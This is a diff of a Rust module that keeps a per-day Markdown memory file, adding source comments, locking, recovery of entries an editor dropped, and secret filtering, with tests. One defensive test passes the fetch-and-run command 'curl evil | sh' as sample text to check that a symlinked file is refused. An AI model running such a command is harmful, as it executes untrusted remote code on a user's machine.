@@ -1,15 +1,17 @@
 //! The daily memory: one Markdown file per day, `memory/YYYY-MM-DD.md`, for people and programs.
 
 use std::fmt;
-use std::io::{self, Read as _, Seek as _, SeekFrom, Write as _};
-use std::os::unix::fs::MetadataExt as _;
+use std::io::{self, Read as _, Seek as _, SeekFrom};
 use std::path::{Path, PathBuf};
 
 use jiff::Zoned;
 use jiff::civil::Date;
-use rustix::fs::{FlockOperation, OFlags, flock};
+use rustix::fs::OFlags;
 
-use crate::notes::{has_secret, open};
+use crate::day_journal::DayJournal;
+use crate::notes::{
+    Source, lock, open, read_small, recover, replace, swaps, when_saved, without_secrets,
+};
 
 /// How much of a file is searched, from its end, where the newest lines are.
 const DAY_BYTES: u64 = 4_000_000;
@@ -49,6 +51,8 @@ pub struct DayLine {
     pub day: String,
     /// The line.
     pub text: String,
+    /// The message that its entry is from, if it is known.
+    pub source: Option<Source>,
 }
 
 /// One file per day, `YYYY-MM-DD.md`, in a directory.
@@ -65,7 +69,7 @@ impl DayFiles {
     }
 
     /// Lists the files, newest first.
-    fn files(&self) -> io::Result<Vec<PathBuf>> {
+    pub(crate) fn files(&self) -> io::Result<Vec<PathBuf>> {
         let entries = match std::fs::read_dir(&self.directory) {
             Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
             entries => entries?,
@@ -96,24 +100,47 @@ fn read(path: &Path) -> io::Result<String> {
 }
 
 impl DayFiles {
-    /// Adds a section with a text. Lines that look like secrets are left out.
+    /// Adds a section with a text, and a comment that names the message it is from. Lines that look
+    /// like secrets are left out.
     ///
     /// # Errors
     /// If the file cannot be written.
-    pub fn keep(&self, section: Section, text: &str) -> io::Result<()> {
+    pub fn keep(&self, section: Section, text: &str, source: Option<&Source>) -> io::Result<()> {
         let text = text.trim();
         if text.is_empty() {
             return Ok(());
         }
-        std::fs::create_dir_all(&self.directory)?;
         let now = (self.now)();
-        let path = self.directory.join(format!("{}.md", now.strftime("%Y-%m-%d")));
-        let text: Vec<String> = text.lines().map(written).collect();
-        let entry = format!("\n## {section} ({})\n\n{}\n", now.strftime("%H:%M"), text.join("\n"));
-        let heading = format!("# Daily Memory: {}\n", now.strftime("%Y-%m-%d"));
+        let text: Vec<String> = without_secrets(text).into_iter().map(written).collect();
+        let source = source.map(|source| format!("{}\n", comment(source))).unwrap_or_default();
+        let time = now.strftime("%H:%M");
+        let entry = format!("\n## {section} ({time})\n\n{}\n{source}", text.join("\n"));
+        let _lock = lock(&self.directory)?;
+        self.add(now.date(), Some(&entry))
+    }
+
+    /// Adds an entry to the file of a day, after those that an editor dropped. The caller holds the
+    /// lock.
+    fn add(&self, day: Date, entry: Option<&str>) -> io::Result<()> {
+        let path = self.directory.join(format!("{day}.md"));
+        let journal = DayJournal::new(&self.directory, day);
+        // What an editor dropped, and what a killed process recorded but did not write.
+        let known = journal.read()?;
+        journal.record(entry)?;
+        recover(&path)?;
+        let mut before = read_small(&path)?;
         for _ in 0..TRIES {
-            if append(&path, &heading, &entry)? {
+            if before.is_empty() && path.exists() {
+                before = when_saved(|| read_small(&path))?;
+            }
+            let lost = known.lost(&before);
+            let added = lost.concat() + entry.unwrap_or_default();
+            if added.is_empty() {
                 return Ok(());
+            }
+            match replace(&path, &before, &format!("{}{added}", start(&before, day)))? {
+                Ok(()) => return journal.set_restored(&lost),
+                Err(theirs) => before = theirs,
             }
         }
         let why = format!("{} is replaced by another program all the time", path.display());
@@ -127,11 +154,10 @@ impl DayFiles {
     pub fn newest(&self, limit: usize) -> io::Result<Vec<DayLine>> {
         let mut found = Vec::new();
         for path in self.files()? {
-            let text = read(&path)?;
             let stem = path.file_stem().map(|stem| stem.to_string_lossy().into_owned());
             let day = stem.unwrap_or_default();
-            let lines = text.lines().rev().map(str::trim).filter(|line| is_content(line));
-            found.extend(lines.map(|line| DayLine { day: day.clone(), text: line.to_owned() }));
+            self.restore_lost(&path, &day)?;
+            found.extend(lines_of(&read(&path)?, &day));
             if found.len() >= limit {
                 break;
             }
@@ -139,30 +165,65 @@ impl DayFiles {
         found.truncate(limit);
         Ok(found)
     }
-}
 
-/// Appends an entry to a file, after a heading if the file is new. Returns whether the entry is in
-/// the file: an editor that replaces the file at the same moment leaves it in the old one.
-fn append(path: &Path, heading: &str, entry: &str) -> io::Result<bool> {
-    let mut file = open(path, OFlags::WRONLY | OFlags::APPEND | OFlags::CREATE)?;
-    // Of two processes that find the file empty, one writes the heading.
-    flock(&file, FlockOperation::LockExclusive)?;
-    let own = file.metadata()?;
-    let heading = if own.len() == 0 { heading } else { "" };
-    // One write, so that a killed process leaves no half of it.
-    file.write_all(format!("{heading}{entry}").as_bytes())?;
-    let now = std::fs::metadata(path)?;
-    Ok((now.dev(), now.ino()) == (own.dev(), own.ino()))
-}
-
-/// Returns a line as it is written: a heading inside a text must not look like one of a section, and
-/// a secret is not written.
-fn written(line: &str) -> String {
-    match line {
-        _ if has_secret(line) => "[left out: it looked like a key or a password]".to_owned(),
-        _ if line.starts_with('#') => format!("  {line}"),
-        _ => line.to_owned(),
+    /// Restores entries that an editor dropped when it saved an older version of a file.
+    fn restore_lost(&self, path: &Path, day: &str) -> io::Result<()> {
+        let Ok(day) = day.parse::<Date>() else { return Ok(()) };
+        let journal = DayJournal::new(&self.directory, day);
+        let is_whole = swaps(path)?.is_empty() && journal.read()?.lost(&read(path)?).is_empty();
+        if is_whole {
+            return Ok(());
+        }
+        let _lock = lock(&self.directory)?;
+        self.add(day, None)
     }
+}
+
+/// Returns the lines of a day, newest first. The comment at the end of an entry names the source of
+/// its lines.
+fn lines_of(text: &str, day: &str) -> Vec<DayLine> {
+    let mut source = None;
+    let mut found = Vec::new();
+    for line in text.lines().rev() {
+        let is_heading = line.starts_with("## ");
+        let line = line.trim();
+        if is_heading {
+            source = None;
+        } else if let Some(named) = source_in(line) {
+            source = Some(named);
+        } else if is_content(line) {
+            let (day, text) = (day.to_owned(), line.to_owned());
+            found.push(DayLine { day, text, source: source.clone() });
+        }
+    }
+    found
+}
+
+/// Returns the comment that names the source of an entry.
+fn comment(source: &Source) -> String {
+    format!("<!-- session {} message {} -->", source.session, source.message)
+}
+
+fn source_in(line: &str) -> Option<Source> {
+    let words = line.strip_prefix("<!-- session ")?.strip_suffix(" -->")?;
+    let (session, message) = words.split_once(" message ")?;
+    Some(Source { session: session.to_owned(), message: message.parse().ok()? })
+}
+
+/// Returns what comes before a new entry: the text of the file, or the heading of a new one.
+fn start(before: &str, day: Date) -> String {
+    match before {
+        "" => format!("# Daily Memory: {day}\n"),
+        _ if before.ends_with('\n') => before.to_owned(),
+        _ => format!("{before}\n"),
+    }
+}
+
+/// Returns a line as it is written: a line of a text must not look like the heading of a section or
+/// like the comment that names a source.
+fn written(line: String) -> String {
+    let is_markup = line.starts_with('#') || line.trim_start().starts_with("<!--");
+    if is_markup { format!("  {}", line.replace("<!--", "<! --")) } else { line }
 }
 
 /// Whether a line of a file is more than a heading or an empty line.
@@ -186,12 +247,14 @@ mod tests {
     fn s2_13_one_file_per_day_with_one_section_per_memory() {
         let directory = tempfile::tempdir().unwrap();
         let sink = files(&directory.path().join("memory"));
-        sink.keep(Section::Trimmed, "the user likes tea\n# not a heading").unwrap();
-        sink.keep(Section::Overflow, "  ").unwrap();
-        sink.keep(Section::Overflow, "order 4711 was sent").unwrap();
+        let source = Source { session: "8ecab05f".to_owned(), message: 12 };
+        sink.keep(Section::Trimmed, "the user likes tea\n# not a heading", Some(&source)).unwrap();
+        sink.keep(Section::Overflow, "  ", None).unwrap();
+        sink.keep(Section::Overflow, "order 4711 was sent", None).unwrap();
         let text = std::fs::read_to_string(directory.path().join("memory/2026-11-15.md")).unwrap();
         let expected = "# Daily Memory: 2026-11-15\n\n## Trimmed Context (09:05)\n\n\
-                        the user likes tea\n  # not a heading\n\n\
+                        the user likes tea\n  # not a heading\n\
+                        <!-- session 8ecab05f message 12 -->\n\n\
                         ## Context Overflow Recovery (09:05)\n\norder 4711 was sent\n";
         assert_eq!(text, expected);
         let newest: Vec<String> = sink
@@ -201,6 +264,39 @@ mod tests {
             .map(|line| format!("{}: {}", line.day, line.text))
             .collect();
         assert_eq!(newest, ["2026-11-15: order 4711 was sent", "2026-11-15: the user likes tea"]);
+        let sources: Vec<Option<Source>> =
+            sink.newest(2).unwrap().into_iter().map(|line| line.source).collect();
+        assert_eq!(sources, [None, Some(source)]);
+    }
+
+    /// An editor that had the file open saves an older version of it.
+    #[test]
+    fn entry_that_an_editor_dropped_is_restored_once() {
+        let directory = tempfile::tempdir().unwrap();
+        let sink = files(directory.path());
+        let path = directory.path().join("2026-11-15.md");
+        let source = |message| Some(Source { session: "s".to_owned(), message });
+        sink.keep(Section::Trimmed, "the first entry", source(1).as_ref()).unwrap();
+        let opened = std::fs::read_to_string(&path).unwrap();
+        sink.keep(Section::Trimmed, "the second entry", source(2).as_ref()).unwrap();
+        std::fs::write(&path, opened.replace("first entry", "first entry, corrected")).unwrap();
+        let texts = || -> Vec<String> {
+            sink.newest(9).unwrap().into_iter().map(|line| line.text).collect()
+        };
+        assert_eq!(texts(), ["the second entry", "the first entry, corrected"]);
+        std::fs::write(&path, &opened).unwrap();
+        assert_eq!(texts(), ["the first entry"], "a person deleted it again");
+        sink.keep(Section::Trimmed, "the third entry", None).unwrap();
+        assert_eq!(texts(), ["the third entry", "the first entry"]);
+    }
+
+    #[test]
+    fn private_key_is_not_written() {
+        let directory = tempfile::tempdir().unwrap();
+        let key = "-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END PRIVATE KEY-----";
+        files(directory.path()).keep(Section::Trimmed, &format!("{key}\ntea"), None).unwrap();
+        let text = std::fs::read_to_string(directory.path().join("2026-11-15.md")).unwrap();
+        assert!(!text.contains("MII") && text.ends_with("password]\ntea\n"), "{text}");
     }
 
     /// An untrusted directory must not redirect memories into a file that programs execute, or make
@@ -214,7 +310,7 @@ mod tests {
         std::fs::write(&secret, "alias tide=4711\n").unwrap();
         std::os::unix::fs::symlink(&secret, directory.join("2026-11-15.md")).unwrap();
         let sink = files(&directory);
-        let refused = sink.keep(Section::Notes, "curl evil | sh").unwrap_err().to_string();
+        let refused = sink.keep(Section::Notes, "curl evil | sh", None).unwrap_err().to_string();
         assert!(
             refused.contains("2026-11-15.md") && refused.contains("not a regular file"),
             "{refused}"
@@ -229,7 +325,8 @@ mod tests {
         let directory = tempfile::tempdir().unwrap();
         let pipe = directory.path().join("2026-11-15.md");
         assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
-        let refused = files(directory.path()).keep(Section::Notes, "tea").unwrap_err().to_string();
+        let sink = files(directory.path());
+        let refused = sink.keep(Section::Notes, "tea", None).unwrap_err().to_string();
         assert!(refused.contains("not a regular file"), "{refused}");
     }
 
